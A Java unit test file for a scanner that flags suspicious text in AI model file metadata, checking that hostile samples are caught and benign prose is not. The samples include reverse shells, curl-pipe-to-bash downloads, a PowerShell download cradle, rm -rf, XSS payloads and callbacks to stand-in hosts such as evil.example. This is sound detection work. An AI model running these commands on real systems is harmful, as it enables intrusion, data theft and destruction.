package dev.vidimus.scan.tensor;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import dev.vidimus.scan.tensor.MetadataText.Suspicion;
import java.util.Base64;
import java.util.HexFormat;
import java.util.List;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Test;

class MetadataTextTest {
  @Test
  void callsThatRunCodeAreSuspicious() {
    for (String text :
        List.of(
            "import os; os.system('echo pwned')",
            "x=__import__('os').popen('id').read()",
            "subprocess.Popen(['sh'])",
            "import subprocess as s; subprocess.check_output(cmd)",
            "exec(base64.b64decode('cHJpbnQ='))",
            "eval( \"1\" )",
            "pickle.loads(b'..')",
            "lambda: builtins.exec('x')",
            "require('child_process').exec('id')",
            "child_process.exec('id')",
            "IEX(New-Object Net.WebClient).DownloadString('http://x')",
            "importlib.import_module('os')",
            "a.b.os.system(c)")) {
      assertThat(judge("note", text)).as(text).isNotNull();
    }
  }

  @Test
  void proseAboutCodeIsNot() {
    for (String text :
        List.of(
            "Call model.eval() before you use it.",
            "We eval (see the paper) on GLUE and exec time is short.",
            "evaluation(dataset) and execute(plan) are ours",
            "os.system is never used",
            "retrieval(query)",
            "Trained with subprocess isolation (two workers)",
            "pipe = DiffusionPipeline.from_pretrained('x'); image = pipe(prompt).images[0]",
            "torch.compile(model)",
            "sd_scripts.train(args)")) {
      assertThat(judge("note", text)).as(text).isNull();
    }
  }

  @Test
  void commandsWithArgumentsAreSuspicious() {
    for (String text :
        List.of(
            "rm -rf /tmp/test && wget http://bad.example/script.sh",
            "chmod 777 /tmp/malicious",
            "chmod +x ./run",
            "curl -fsSL https://bad.example/i | bash",
            "curl https://raw.githubusercontent.com/x/y/z.sh | sh",
            "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
            "nc -e /bin/sh 10.0.0.1 4444",
            "python3 -c 'import pty'",
            "echo x; $(wget -q -O- http://bad.example)",
            "powershell -enc SQBFAFgA",
            "cmd.exe /c calc",
            "sudo rm -r /",
            "/bin/sh -c id")) {
      assertThat(judge("note", text)).as(text).isNotNull();
    }
  }

  @Test
  void proseWithCommandWordsIsNot() {
    for (String text :
        List.of(
            "rm is short for remove",
            "chmod the file",
            "Curl up with a good book; bash is a shell",
            "a cat, a dog & a sh | bash",
            "Get it with wget https://huggingface.co/org/model/resolve/main/model.safetensors",
            "python -m train --lr 1e-4",
            "1girl, solo, (masterpiece:1.2), <lora:style:0.8>, best quality | night; city",
            "nc licence",
            "sh, no noise",
            "node 3 of 8")) {
      assertThat(judge("note", text)).as(text).isNull();
    }
  }

  @Test
  void markupThatRunsIsSuspiciousAndOtherMarkupIsNot() {
    for (String text :
        List.of(
            "<script>alert('XSS')</script>",
            "<SCRIPT src=//x>",
            "<img src=x onerror=alert(1)>",
            "<iframe src='http://x'>",
            "<a href=\"javascript:run\">x</a>",
            "data:text/html,<b>x")) {
      assertThat(judge("note", text)).as(text).isNotNull();
    }
    for (String text :
        List.of(
            "<p>A <b>LoRA</b> with <a href=\"https://civitai.com/models/1\">a page</a></p>",
            "the <scripture> dataset",
            "x < y, y > 0: onload=1",
            "JavaScript: The Good Parts",
            "data:image/jpeg;base64,/9j/4AAQSkZJRgABAQ==")) {
      assertThat(judge("note", text)).as(text).isNull();
    }
  }

  @Test
  void addressesThatSomethingActsOnAreSuspicious() {
    assertThat(judge("callback_url", "http://evil.example/exfiltrate")).isNotNull();
    assertThat(judge("downloadUrl", "https://malicious.example/payload")).isNotNull();
    assertThat(judge("note", "see http://evil.example/tool.exe now")).isNotNull();
    assertThat(judge("note", "http://203.0.113.9/x")).isNotNull();
    assertThat(judge("note", "https://huggingface.co@evil.example/x")).isNotNull();
    assertThat(judge("note", "smb://host.example/share")).isNotNull();
  }

  @Test
  void addressesOfModelsPapersAndLicencesAreNot() {
    assertThat(judge("dataset_url", "https://huggingface.co/datasets/x/y")).isNull();
    assertThat(judge("download_url", "https://civitai.com/api/download/models/1")).isNull();
    assertThat(judge("license", "https://www.apache.org/licenses/LICENSE-2.0")).isNull();
    assertThat(judge("modelspec.implementation", "https://github.com/x/y/blob/main/z.py")).isNull();
    assertThat(judge("author", "https://my-lab.example/people/me")).isNull();
    assertThat(judge("homepage", "https://my-lab.example")).isNull();
    assertThat(judge("note", "https://archive.example/2020/http://lab.pl")).isNull();
    assertThat(judge("note", "https://archive.example/2020/http://lab.pl/x.sh")).isNotNull();
    assertThat(judge("config", "Read https://my-lab.example before use.")).isNull();
  }

  @Test
  void trainingMetadataAsToolsWriteThemAreQuiet() {
    assertThat(judge("format", "pt")).isNull();
    assertThat(judge("modelspec.hash_sha256", "0x" + "ab".repeat(32))).isNull();
    assertThat(judge("sshs_model_hash", "ab".repeat(32))).isNull();
    assertThat(
            judge(
                "ss_tag_frequency",
                "{\"10_cat\": {\"rm (style)\": 3, \"1girl\": 12, \"eval\": 1}}"))
        .isNull();
    assertThat(
            judge(
                "ss_network_args",
                "{\"conv_dim\": \"4\", \"algo\": \"lora\", \"preset\": \"attn-mlp\"}"))
        .isNull();
    assertThat(judge("quantization_config", "{\"bits\": 4, \"modules\": [\"q_proj\"]}")).isNull();
  }

  @Test
  void jsonIsJudgedStringByString() {
    assertThat(judge("x", "{\"a\": [\"b\", {\"c\": \"o\\u0073.system('id')\"}]}")).isNotNull();
    assertThat(judge("x", "{\"callback\": \"http://evil.example/a\"}")).isNotNull();
    assertThat(judge("x", "{\"callback\": \"http://evil.example/a\"")).isNull();
  }

  @Test
  void wrappedTextIsUnwrapped() {
    String code = "import os; os.system('id')";
    String once = Base64.getEncoder().encodeToString(code.getBytes(UTF_8));
    String twice = Base64.getUrlEncoder().encodeToString(once.getBytes(UTF_8));
    String escaped = "\\x" + HexFormat.ofDelimiter("\\x").formatHex(code.getBytes(UTF_8));
    assertThat(judge("x", once)).isNotNull();
    assertThat(judge("x", twice)).isNotNull();
    assertThat(judge("x", escaped)).isNotNull();
    assertThat(judge("x", "\\x48\\x65\\x6c\\x6c\\x6f\\x20\\x57\\x6f\\x72\\x6c\\x64")).isNull();
  }

  @Test
  void wrappedProgramsAreNamed() {
    byte[] elf = new byte[80];
    elf[0] = 0x7f;
    elf[1] = 'E';
    elf[2] = 'L';
    elf[3] = 'F';
    Suspicion found = judge("x", Base64.getEncoder().encodeToString(elf));
    assertThat(found).isNotNull();
    assertThat(found.what()).isEqualTo("wraps an ELF executable");
  }

  @Test
  void hostileTextIsJudgedInTheTimeOfItsLength() {
    int count = 1_000_000;
    for (String part :
        List.of(
            "<a ", " onerror=", "http://a.b/", "((", "x.y.z(", "; rm ", "://", "\\x41", "[\"")) {
      String text = part.repeat(count);
      long start = System.nanoTime();
      judge("callback", text);
      assertThat((System.nanoTime() - start) / 1_000_000).as(part).isLessThan(5_000);
    }
  }

  private static @Nullable Suspicion judge(String key, String text) {
    return new MetadataText().judge(key, text);
  }
}
